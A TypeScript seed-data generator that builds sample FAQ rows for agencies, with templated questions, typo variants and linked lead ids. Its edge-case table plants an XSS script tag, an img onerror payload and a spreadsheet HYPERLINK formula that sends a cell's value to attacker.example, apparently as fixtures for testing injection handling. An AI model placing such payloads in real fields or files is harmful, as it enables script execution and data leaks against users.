import type { smartFaq } from '../db/schema.ts';
import type { SampleAgency, SampleSource } from './agencies.ts';
import type { FaqText } from './faq-texts/faq-text.ts';
import { faqTextsAt } from './faq-texts/faq-texts.ts';
import { SAMPLE_AGENCY } from './identity.ts';
import { talkAt } from './languages.ts';
import { aLead } from './lead.ts';
import { phrase, withChoices, withSlots, type Slots } from './phrase.ts';
import { opaqueId, Random } from './random.ts';
import type { Timeline } from './timeline.ts';

type SmartFaqRow = typeof smartFaq.$inferInsert;

const FAQS_OF_SAMPLE = 1200;
const FAQS_OF_SECOND = 30;

/** The questions were asked by some of so many leads, the newest. */
const ASKING_LEADS = 1200;

const MOST_TRIES = 200;

/** The smart FAQs of an agency with `leads` leads. No two of a source are alike to the letter. */
export function faqsOf(agency: SampleAgency, leads: number, timeline: Timeline): SmartFaqRow[] {
  const isSample = agency.id === SAMPLE_AGENCY.id;
  const leadIds = leadIdsBySource(agency, leads, timeline);
  return askedFaqsOf(agency).map(({ random, source, isCompressed, question, answer }, index) => ({
    agencyId: agency.id,
    id: opaqueId('faq', agency.seed, index),
    sourceId: source.id,
    question,
    answer: answerOf(random, answer),
    leadIds: leadIdsOf(random, leadIds.get(source.id) ?? [], isCompressed),
    state: isCompressed ? 'compressed' : 'uncompressed',
    ...(isSample && ODDITIES.get(index)?.(agency)),
  }));
}

type AskedFaq = Asked & {
  /** What the rest of its record is drawn from. */
  random: Random;
  source: SampleSource;
  isCompressed: boolean;
};

/** What is asked at an agency, and what each question was made of. */
export function askedFaqsOf(agency: SampleAgency): AskedFaq[] {
  const asked = new Set<string>();
  return Array.from(
    { length: agency.id === SAMPLE_AGENCY.id ? FAQS_OF_SAMPLE : FAQS_OF_SECOND },
    (_, index) => {
      const random = new Random(agency.seed, 'faq', index);
      const source = random.pick(agency.sources);
      const isCompressed = random.chance(0.42);
      return { random, source, isCompressed, ...aNewQuestion(random, source, isCompressed, asked) };
    },
  );
}

function leadIdsBySource(agency: SampleAgency, leads: number, timeline: Timeline): Map<string, string[]> {
  const ids = new Map<string, string[]>();
  for (let index = 0; index < Math.min(leads, ASKING_LEADS); index++) {
    const { row, source } = aLead(agency, index, leads, timeline);
    ids.set(source.id, [...(ids.get(source.id) ?? []), row.id]);
  }
  return ids;
}

type Asked = {
  question: string;
  answer: string | null;
  /** The text that it is one of, or the template where nobody answered it yet. */
  about: FaqText | string;
  /** The template with its choices made and its slots open. */
  wording: string;
  /** What each slot stands for, of this wording and of others. */
  slots: Slots;
};

/** Draws until it is one that the source does not have yet. */
function aNewQuestion(
  random: Random,
  source: SampleSource,
  isCompressed: boolean,
  asked: Set<string>,
): Asked {
  for (let tries = 0; tries < MOST_TRIES; tries++) {
    const drawn = aQuestion(random, source, isCompressed);
    const key = `${source.id} ${drawn.question}`;
    if (asked.has(key)) continue;
    asked.add(key);
    return drawn;
  }
  throw new Error(`There is nothing new to ask at ${source.name}.`);
}

/** What is compressed is tidy, since it stands for many questions; the others are as somebody typed them. */
function aQuestion(random: Random, source: SampleSource, isCompressed: boolean): Asked {
  const language = random.weighted(source.market.languages);
  const talk = talkAt(source, language);
  const slots = oneOfEach(random, {
    ...talk.slots,
    city: [random.pick(source.market.cities)],
    brand: [source.brand],
    first: ['there'],
  });
  // Nobody wrote an answer yet to what came in by the way.
  if (!isCompressed && random.chance(0.3)) {
    const about = random.pick(talk.questions);
    const wording = withChoices(random, about);
    return { question: withSlots(random, wording, slots), answer: null, about, wording, slots };
  }
  const about = random.pick(faqTextsAt(source, language));
  const isTidy = isCompressed && random.chance(0.75);
  const wording = withChoices(random, isTidy ? about.asked[0] : random.pick(about.asked));
  const question = withSlots(random, wording, slots);
  return {
    question: isCompressed ? question : asTyped(random, question),
    answer: phrase(random, about.answer, slots),
    about,
    wording,
    slots,
  };
}

/** The same word wherever a slot stands, so that an answer speaks of what was asked. */
function oneOfEach(random: Random, slots: Slots): Slots {
  return Object.fromEntries(Object.entries(slots).map(([name, words]) => [name, [random.pick(words)]]));
}

/** Near enough to the same question to be compressed with it one day. */
function asTyped(random: Random, question: string): string {
  return random.weighted([
    [question, 50],
    [question.toLowerCase(), 12],
    [question.replace(/\s*[?؟.]$/, ''), 12],
    [question.replace(/\?$/, '??'), 8],
    [`${question} 🙏`, 5],
    [` ${question}\n`, 3],
    [`Hi, ${question}`, 2],
  ]);
}

function answerOf(random: Random, answer: string | null): string | null {
  return random.weighted([
    [answer, 74],
    [null, 20],
    ['', 4],
    ['  \n', 2],
  ]);
}

function leadIdsOf(random: Random, ids: readonly string[], isCompressed: boolean): string[] | null {
  if (random.chance(0.02)) return null;
  return random.some(ids, isCompressed ? random.int(2, 14) : random.pick([0, 1, 1, 1, 1, 1, 2]));
}

/** What is legal and odd: each once, at a place of its own. */
const ODDITIES = new Map<number, (agency: SampleAgency) => Partial<SmartFaqRow>>([
  [11, () => ({ question: '<script>alert(1)</script>', answer: '<img src=x onerror=alert(1)>' })],
  [
    12,
    () => ({ question: '=HYPERLINK("https://attacker.example/?leak="&A1,"Click me")', answer: '@SUM(1+1)' }),
  ],
  [13, () => ({ question: null, answer: null })],
  [14, () => ({ question: '' })],
  [15, () => ({ answer: 'See the price list, page 4. '.repeat(150) })],
  [16, () => ({ question: 'Why? '.repeat(400) })],
  [17, (agency) => ({ sourceId: agency.removedSourceId })],
  [18, () => ({ state: null })],
  [19, () => ({ question: 'כמה זה עולה? (בערך 3,500?)', answer: null })],
]);
